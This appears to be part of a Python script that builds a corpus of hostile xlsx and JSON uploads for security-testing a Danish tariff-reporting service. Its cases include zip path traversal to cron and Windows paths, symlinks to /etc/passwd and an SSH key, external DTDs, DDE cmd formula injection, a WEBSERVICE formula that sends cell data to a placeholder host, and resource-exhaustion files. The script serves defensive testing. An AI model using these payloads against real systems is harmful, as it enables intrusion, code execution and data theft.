            "En DTD uden entiteter i xl/styles.xml (DTD'er afvises helt).",
            lambda: with_members(
                t(),
                {
                    "xl/styles.xml": b'<?xml version="1.0"?><!DOCTYPE styleSheet [<!ELEMENT '
                    b'styleSheet ANY>]><styleSheet xmlns="' + SHEET_NS.encode() + b'"/>'
                },
            ),
        ),
        Case(
            "dtd-external-public.xlsx",
            "XXE / DTD",
            "En ekstern DTD (PUBLIC ... http://) i xl/workbook.xml.",
            lambda: with_members(
                t(),
                {
                    "xl/workbook.xml": b'<?xml version="1.0"?><!DOCTYPE workbook PUBLIC '
                    b'"-//X//DTD X//EN" "http://127.0.0.1:9/x.dtd"><workbook xmlns="'
                    + SHEET_NS.encode()
                    + b'"><sheets/></workbook>'
                },
            ),
        ),
        # path traversal and odd member names
        Case(
            "traversal-dotdot.xlsx",
            "Stinavne",
            "En del med navnet ../../evil.sh.",
            lambda: with_members(t(), {"../../evil.sh": b"#!/bin/sh\nid\n"}),
        ),
        Case(
            "traversal-absolute.xlsx",
            "Stinavne",
            "En del med den absolutte sti /etc/cron.d/evil.",
            lambda: with_members(t(), {"/etc/cron.d/evil": b"* * * * * root id\n"}),
        ),
        Case(
            "traversal-backslash.xlsx",
            "Stinavne",
            "En del med navnet ..\\..\\evil.bat (Windows-stier).",
            lambda: with_members(t(), {"..\\..\\evil.bat": b"calc.exe\r\n"}),
        ),
        Case(
            "traversal-drive-letter.xlsx",
            "Stinavne",
            "En del med navnet C:/Windows/evil.dll.",
            lambda: with_members(t(), {"C:/Windows/evil.dll": exe_bytes()}),
        ),
        Case(
            "traversal-inside-path.xlsx",
            "Stinavne",
            "En del med navnet xl/../../../evil.",
            lambda: with_members(t(), {"xl/../../../evil": b"x"}),
        ),
        Case(
            "symlink-absolute.xlsx",
            "Stinavne",
            "Skabelonen med en del (xl/media/image1.png), der er et symbolsk link til /etc/passwd.",
            lambda: with_symlink(t(), "xl/media/image1.png", "/etc/passwd"),
        ),
        Case(
            "symlink-relative.xlsx",
            "Stinavne",
            "Skabelonen med en del (xl/media/image1.png), der er et symbolsk link til ../../../../root/.ssh/id_rsa.",
            lambda: with_symlink(t(), "xl/media/image1.png", "../../../../root/.ssh/id_rsa"),
        ),
        Case(
            "duplicate-member.xlsx",
            "Stinavne",
            "xl/workbook.xml to gange (zip-parsere vælger forskellige).",
            lambda: zip_bytes([*members_of(t()).items(), ("xl/workbook.xml", WORKBOOK)]),
        ),
        Case(
            "external-link-dde.xlsx",
            "Formler / DDE",
            "Skabelonen med en ekstern kæde (DDE-link til cmd).",
            external_link,
        ),
        # formulas instead of values
        Case(
            "formula-arithmetic.xlsx",
            "Formler / DDE",
            "=1+1 i beløbscellen C27.",
            lambda: set_cell(AMOUNT_CELL, "=1+1"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-hyperlink.xlsx",
            "Formler / DDE",
            '=HYPERLINK("http://…";"Klik") som tilbuddets navn (C9).',
            lambda: set_cell(NAME_CELL, '=HYPERLINK("http://127.0.0.1:9/x","Klik her")'),
            "findings",
            {"cell": NAME_CELL},
        ),
        Case(
            "formula-dde-cmd.xlsx",
            "Formler / DDE",
            "=cmd|' /C calc'!A0 (DDE) i beløbscellen.",
            lambda: set_cell(AMOUNT_CELL, "=cmd|' /C calc'!A0"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-dde-msexcel.xlsx",
            "Formler / DDE",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0.",
            lambda: set_cell(AMOUNT_CELL, "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-webservice.xlsx",
            "Formler / DDE",
            '=WEBSERVICE("http://…"&C9) (sender data ud).',
            lambda: set_cell(AMOUNT_CELL, '=WEBSERVICE("http://127.0.0.1:9/?"&C9)'),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-cached-value.xlsx",
            "Formler / DDE",
            "En formel med gemt resultat 600000 (som Excel gemmer den).",
            formula_with_cached_value,
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-array.xlsx",
            "Formler / DDE",
            "En matrixformel {=SUM(C23:C26*1)} i beløbscellen.",
            array_formula,
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-as-text.xlsx",
            "Formler / DDE",
            "Teksten '=1+1' (ikke en formel) i beløbscellen.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "=1+1")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "formula-plus-cmd-as-text.xlsx",
            "Formler / DDE",
            "Teksten '+cmd|' /C calc'!A0' i beløbscellen.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "+cmd|' /C calc'!A0")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        # huge sheets within the upload limit
        Case(
            "huge-rows.xlsx",
            "Store ark",
            "Skabelonen med 300.000 ekstra rækker (12 MB celledata, pakket ca. 1:80).",
            huge_rows,
        ),
        Case(
            "huge-columns.xlsx",
            "Store ark",
            "Skabelonen med 45 rækker udfyldt i alle 16.384 kolonner (11 MB celledata).",
            huge_columns,
        ),
        Case(
            "huge-shared-strings.xlsx",
            "Store ark",
            "Skabelonen med 11 MB delte tekster (sharedStrings.xml).",
            huge_shared_strings,
        ),
        Case(
            "huge-many-sheets.xlsx",
            "Store ark",
            "Skabelonen med 200 ekstra ark (12 MB celledata, hvert ark under 1 MB).",
            many_sheets,
        ),
        Case(
            "huge-far-cell.xlsx",
            "Store ark",
            "Et ark hvis eneste celle er XFD1048576, og som påstår at fylde hele gitteret (ingen tæt allokering).",
            far_cell,
        ),
        Case(
            "huge-at-the-limit.xlsx",
            "Store ark",
            "Kontrol: skabelonen med 47.000 ekstra celler, lige under "
            "grænsen på 1 MB celledata: den langsomste fil der tages imod, læses inden for tid og hukommelse.",
            at_the_limit,
            "read",
            {"cell": AMOUNT_CELL, "value": "600000"},
        ),
        # number formats in the amount cell C27 (well-formed templates)
        Case(
            "number-english-thousands.xlsx",
            number,
            "'1,234.50' (engelsk format) som tekst i C27: tvetydigt.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "1,234.50")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-exponent.xlsx",
            number,
            "'12e3' (eksponentnotation) som tekst i C27.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "12e3")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-exponent-1e400.xlsx",
            number,
            "'1e400' som tekst i C27 (uden for alle rimelige beløb).",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "1e400")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-nan.xlsx",
            number,
            "'NaN' som tekst i C27.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "NaN")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-infinity.xlsx",
            number,
            "'Infinity' som tekst i C27.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "Infinity")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-huge-numeric.xlsx",
            number,
            "Tallet 1E+308 (største double) som talcelle i C27.",
            lambda: with_cell_xml(AMOUNT_CELL, f'<c r="{AMOUNT_CELL}" s="14" t="n"><v>1E+308</v></c>'),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "number-danish-thousands.xlsx",
            number,
            "Kontrol: '1.234,50' (dansk format) som tekst i C27 læses præcist som 1234,50.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "1.234,50")),
            "read",
            {"cell": AMOUNT_CELL, "value": "1234.50"},
        ),
        Case(
            "number-space-thousands.xlsx",
            number,
            "Kontrol: '1 234,50' (mellemrum som tusindtalsseparator) læses præcist som 1234,50.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "1 234,50")),
            "read",
            {"cell": AMOUNT_CELL, "value": "1234.50"},
        ),
        Case(
            "number-negative-zero.xlsx",
            number,
            "Kontrol: '-0' som tekst i C27 læses som 0 (aldrig '-0').",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "-0")),
            "read",
            {"cell": AMOUNT_CELL, "value": "0"},
        ),
        # Excel date quirks
        Case(
            "date-in-amount-cell.xlsx",
            dates,
            "En dato (1-1-2027) i beløbscellen C27.",
            lambda: set_cell(AMOUNT_CELL, datetime(2027, 1, 1), "dd-mm-yyyy"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-serial-60.xlsx",
            dates,
            "Serienummer 60 med datoformat: Excels ikke-eksisterende 29-02-1900.",
            lambda: set_cell(AMOUNT_CELL, 60, "dd-mm-yyyy"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-1904-system.xlsx",
            dates,
            "Projektmappe med 1904-datosystemet og datoformat på beløbscellen.",
            date1904_amount,
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-time-in-amount-cell.xlsx",
            dates,
            "Et klokkeslæt (12:00) i beløbscellen.",
            lambda: set_cell(AMOUNT_CELL, time(12, 0), "hh:mm"),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-text-dashes.xlsx",
            dates,
            "Teksten '01-01-2027' i beløbscellen.",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "01-01-2027")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-text-dots.xlsx",
            dates,
            "Teksten '1.1.2027' i beløbscellen (må ikke blive 112.027 kr.).",
            lambda: with_cell_xml(AMOUNT_CELL, inline_text(AMOUNT_CELL, "1.1.2027")),
            "findings",
            {"cell": AMOUNT_CELL},
        ),
        Case(
            "date-budget-year-as-date.xlsx",
            dates,
            "Budgetåret (C6) skrevet som datoen 1-1-2027.",
            lambda: set_cell(YEAR_CELL, date(2027, 1, 1), "dd-mm-yyyy"),
            "findings",
            {"cell": YEAR_CELL},
        ),
        # a year no rule set covers
        Case(
            "year-without-ruleset.xlsx",
            "Årstal uden regelsæt",
            "Skabelonen med budgetåret 1999 (C6), som intet regelsæt dækker (gav før en serverfejl).",
            lambda: set_cell(YEAR_CELL, 1999),
        ),
        Case(
            "year-without-ruleset.json",
            "Årstal uden regelsæt",
            "Fjordgården med budgetåret 1999, som intet regelsæt dækker (gav før en serverfejl).",
            lambda: json_variant(budget_year=1999),
        ),
        # empty
        Case("empty.xlsx", "Tom fil", "0 byte med navnet .xlsx.", lambda: b""),
        Case("empty.json", "Tom fil", "0 byte med navnet .json.", lambda: b""),
        Case("whitespace-only.xlsx", "Tom fil", "Kun mellemrum og linjeskift.", lambda: b"  \r\n\t\n"),
        Case(
            "zero-byte-sheet.xlsx",
            "Tom fil",
            "Skabelonen hvor arket Takstberegning er 0 byte.",
            lambda: with_members(t(), {SHEET: b""}),
        ),
        Case(
            "zip-without-workbook.xlsx",
            "Tom fil",
            "En zip med kun [Content_Types].xml.",
            lambda: zip_bytes({"[Content_Types].xml": CONTENT_TYPES}),
        ),
        # wrong JSON
        Case(
            "json-not-json.json",
            "Forkert JSON",
            "Almindelig tekst med navnet .json.",
            lambda: "Dette er ikke JSON, men en takst på 2.070,25 kr.\n".encode(),
        ),
        Case(
            "json-array.json",
            "Forkert JSON",
            "Et JSON-array med indberetningen i stedet for et objekt.",
            lambda: b"[" + json_variant() + b"]",
        ),
        Case(
            "json-string.json", "Forkert JSON", "En JSON-tekst i stedet for et objekt.", lambda: b'"Fjordg\\u00e5rden"'
        ),
        Case("json-null.json", "Forkert JSON", "JSON null.", lambda: b"null"),
        Case(
            "json-deep-array.json", "Forkert JSON", "10.000 indlejrede arrays.", lambda: b"[" * 10_000 + b"]" * 10_000
        ),
        Case(
            "json-deep-object.json",
            "Forkert JSON",
            "10.000 indlejrede objekter.",
            lambda: b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        ),
        Case(
            "json-huge-number-1e400.json",
            "Forkert JSON",
            "Beløbet 1e400 for aktiviteter.",
            lambda: json_with_costs(activities="__N__").replace('"__N__"', "1e400").encode(),
        ),
        Case(
            "json-huge-integer.json",
            "Forkert JSON",
            "Et heltal med 5.000 cifre for aktiviteter.",
            lambda: json_with_costs(activities="__N__").replace('"__N__"', "9" * 5000).encode(),
        ),
        Case(
            "json-strings-instead-of-objects.json",
            "Forkert JSON",
            "Tekster hvor der skal være objekter.",
            lambda: json_variant(offer="Fjordgården", occupancy="96 %", costs="mange"),
        ),
        Case(
            "json-float-many-digits.json",
            "Forkert JSON",
            "Beløb med 40 decimaler.",
            lambda: (
                json_with_costs(activities="__N__")
                .replace('"__N__"', "600000.1234567890123456789012345678901234567891")
                .encode()
            ),
        ),
        Case(
            "json-nan-infinity.json",
            "Forkert JSON",
            "NaN og Infinity som beløb (ikke gyldig JSON, men Python læser dem).",
            lambda: (
                json_with_costs(activities="__A__", competence_development="__B__")
                .replace('"__A__"', "NaN")
                .replace('"__B__"', "Infinity")
                .encode()
            ),
        ),
        Case(
            "json-invalid-utf8.json",
            "Forkert JSON",
            "Bytes der ikke er gyldig UTF-8.",
            lambda: b'{"offer": {"name": "Fjordg\xe5rden"}, "x": "\xff\xfe"}',
        ),
    ]


def manifest_entry(case: Case, raw: bytes) -> dict[str, object]:
    return {
        "file": case.file,
        "category": case.category,
        "why": case.why,
        "expect": case.expect,
        "bytes": len(raw),
        "sha256": hashlib.sha256(raw).hexdigest(),
        **case.extra,
    }


def readme(entries: list[dict[str, object]]) -> str:
    expect_da = {"refused": "afvist (4xx)", "findings": "fund i cellen (422)", "read": "kontrol: læses præcist"}
    total = sum(int(str(e["bytes"])) for e in entries)
    hostile = sum(1 for e in entries if e["expect"] != "read")
    lines = [
        "# Fjendtlige uploads (hostile upload corpus)",
        "",
        "Made by `tools/make_hostile_corpus.py` (deterministic, downloads nothing); do not edit by hand, run",
        "`.venv/bin/python tools/make_hostile_corpus.py` instead. `tests/security/test_hostile_corpus.py` posts",
        "every file through the real HTTP upload (and the JSON files also to the JSON endpoint) and through",
        "`rammeaftale tariff compute`, and checks the answer below, the time (< 5 s) and the memory (< 512 MiB).",
        "",
        "* **afvist (4xx)**: refused with a Danish message, never a 5xx, nothing saved; the CLI exits 2 or 1.",
        "* **fund i cellen (422)**: a well-formed template with one bad cell: a Danish finding naming the cell,",
        "  nothing saved; the CLI exits 1.",
        "* **kontrol**: a well-formed template with an odd but unambiguous Danish number, which must be read",
        "  exactly (never misread); these are saved like any valid draft and are not counted as hostile.",
        "",
        f"{len(entries)} files ({hostile} hostile, {len(entries) - hostile} controls), {total} bytes in all.",
        "",
        "| Fil | Kategori | Hvorfor den er fjendtlig | Forventet |",
        "| --- | --- | --- | --- |",
    ]
    for e in entries:
        why = str(e["why"]).replace("|", "\\|").replace("<", "&lt;")
        expected = expect_da[str(e["expect"])]
        if "cell" in e:
            expected += f", celle {e['cell']}"
        lines.append(f"| `{e['file']}` | {e['category']} | {why} | {expected} |")
    return "\n".join(lines) + "\n"


def build(out: Path) -> list[dict[str, object]]:
    out.mkdir(parents=True, exist_ok=True)
    entries = []
    for case in cases():
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate member, which is the point
            raw = case.build()
        (out / case.file).write_bytes(raw)
        entries.append(manifest_entry(case, raw))
    (out / "manifest.json").write_text(json.dumps(entries, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    (out / "README.md").write_text(readme(entries), encoding="utf-8")
    return entries


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args(argv)
    entries = build(args.out)
    total = sum(int(str(e["bytes"])) for e in entries)
    print(f"{len(entries)} files, {total / MB:.2f} MB in {args.out}")


if __name__ == "__main__":
    main()
